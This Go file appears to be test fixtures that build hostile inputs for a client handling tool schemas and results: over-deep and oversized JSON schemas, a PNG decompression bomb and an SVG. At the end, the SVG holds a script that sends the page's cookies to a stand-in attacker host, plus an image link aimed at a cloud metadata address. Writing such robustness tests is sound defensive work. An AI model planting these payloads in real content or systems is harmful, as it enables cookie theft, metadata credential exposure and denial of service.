package hostile

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/png"
	"strings"
)

// deepSchema is an object schema whose single property nests levels
// schemas deep. Every level is two JSON levels (schema, properties), so
// the frame nests well past encoding/json's limit of 10,000: a stock
// decoder rejects the whole tools/list frame.
func deepSchema(levels int) string {
	const opening, closing = `{"type":"object","properties":{"a":`, `}}`
	return strings.Repeat(opening, levels-1) + `{"type":"string"}` + strings.Repeat(closing, levels-1)
}

// bigSchema is a valid object schema of at least size bytes: properties
// with long descriptions.
func bigSchema(size int) string {
	var b strings.Builder
	b.WriteString(`{"type":"object","properties":{`)
	desc := strings.Repeat("x", 1000)
	for i := 0; b.Len() < size; i++ {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `"p%05d":{"type":"string","description":"%s"}`, i, desc)
	}
	b.WriteString(`}}`)
	return b.String()
}

// manySubschemas is an object schema with one property whose anyOf holds
// n subschemas.
func manySubschemas(n int) string {
	var b strings.Builder
	b.WriteString(`{"type":"object","properties":{"choice":{"anyOf":[`)
	for i := range n {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `{"const":%d}`, i)
	}
	b.WriteString(`]}}}`)
	return b.String()
}

// deepStructured is a tool result whose structuredContent nests levels
// objects deep, written by hand because encoding/json will not go there.
func deepStructured(levels int) []byte {
	return []byte(`{"content":[{"type":"text","text":"deep"}],"structuredContent":` +
		strings.Repeat(`{"a":`, levels) + `0` + strings.Repeat(`}`, levels) + `}`)
}

func imageBlock(data []byte, mimeType string) map[string]any {
	return map[string]any{"type": "image", "data": base64.StdEncoding.EncodeToString(data), "mimeType": mimeType}
}

// smallPNG is a valid 2×2 PNG of the i-th of a few colours.
func smallPNG(i int) []byte {
	colours := []color.NRGBA{{255, 0, 0, 255}, {0, 255, 0, 255}, {0, 0, 255, 255}, {255, 255, 0, 255}, {0, 255, 255, 255}, {255, 0, 255, 255}}
	img := image.NewNRGBA(image.Rect(0, 0, 2, 2))
	for p := 0; p < len(img.Pix); p += 4 {
		c := colours[i%len(colours)]
		copy(img.Pix[p:], []byte{c.R, c.G, c.B, c.A})
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		panic("hostile: " + err.Error())
	}
	return b.Bytes()
}

// pngSignature starts every PNG (PNG spec §5.2).
const pngSignature = "\x89PNG\r\n\x1a\n"

// pngChunk appends a chunk: length, type, data, CRC-32 of type and data
// (PNG spec §5.3).
func pngChunk(b []byte, typ string, data []byte) []byte {
	b = binary.BigEndian.AppendUint32(b, uint32(len(data)))
	b = append(b, typ...)
	b = append(b, data...)
	crc := crc32.NewIEEE()
	crc.Write([]byte(typ))
	crc.Write(data)
	return binary.BigEndian.AppendUint32(b, crc.Sum32())
}

// BombPNG is a decompression bomb: a valid header (correct CRCs) claiming
// BombSide×BombSide 8-bit grey pixels, 10 GB decoded, followed by the first
// scanline only, deflated to a few hundred bytes. image.DecodeConfig
// reports the claimed size; a full decode would first allocate it.
func BombPNG() []byte {
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], BombSide)
	binary.BigEndian.PutUint32(ihdr[4:], BombSide)
	ihdr[8] = 8 // bit depth; colour type 0 (grey), compression, filter and interlace 0
	var idat bytes.Buffer
	zw, _ := zlib.NewWriterLevel(&idat, zlib.BestCompression)
	zw.Write(make([]byte, 1+BombSide)) // filter byte and one row
	zw.Close()

	b := []byte(pngSignature)
	b = pngChunk(b, "IHDR", ihdr)
	b = pngChunk(b, "IDAT", idat.Bytes())
	return pngChunk(b, "IEND", nil)
}

// hugePNG is a valid 2×2 PNG padded with a tEXt chunk to exactly size
// bytes.
func hugePNG(size int) []byte {
	small := smallPNG(1)
	const afterIHDR = len(pngSignature) + 12 + 13
	keyword := "Comment\x00"
	text := keyword + strings.Repeat("x", size-len(small)-12-len(keyword))
	b := append([]byte{}, small[:afterIHDR]...)
	b = pngChunk(b, "tEXt", []byte(text))
	return append(b, small[afterIHDR:]...)
}

// hostileSVG runs a script and fetches a remote image when rendered.
const hostileSVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">` +
	`<script>fetch("https://evil.example/?c="+document.cookie)</script>` +
	`<image xlink:href="http://169.254.169.254/latest/meta-data/" width="10" height="10"/></svg>`
